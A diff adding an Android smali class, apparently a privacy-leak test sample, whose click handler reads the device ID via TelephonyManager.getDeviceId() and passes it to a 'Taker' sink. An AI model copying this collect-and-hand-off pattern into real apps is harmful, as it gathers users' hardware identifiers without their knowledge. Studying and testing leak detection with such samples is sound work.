@@ -1,0 +1,23 @@
+.class public La/LoudClicked;
+.super Ljava/lang/Object;
+.implements Landroid/view/View$OnClickListener;
+
+.field private to:La/Taker;
+.field static telephony:Landroid/telephony/TelephonyManager;
+
+.method public constructor <init>(La/Taker;)V
+    .locals 0
+    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
+    iput-object p1, p0, La/LoudClicked;->to:La/Taker;
+    return-void
+.end method
+
+.method public onClick(Landroid/view/View;)V
+    .locals 2
+    iget-object v0, p0, La/LoudClicked;->to:La/Taker;
+    sget-object v1, La/LoudClicked;->telephony:Landroid/telephony/TelephonyManager;
+    invoke-virtual {v1}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
+    move-result-object v1
+    invoke-interface {v0, v1}, La/Taker;->take(Ljava/lang/String;)V
+    return-void
+.end method
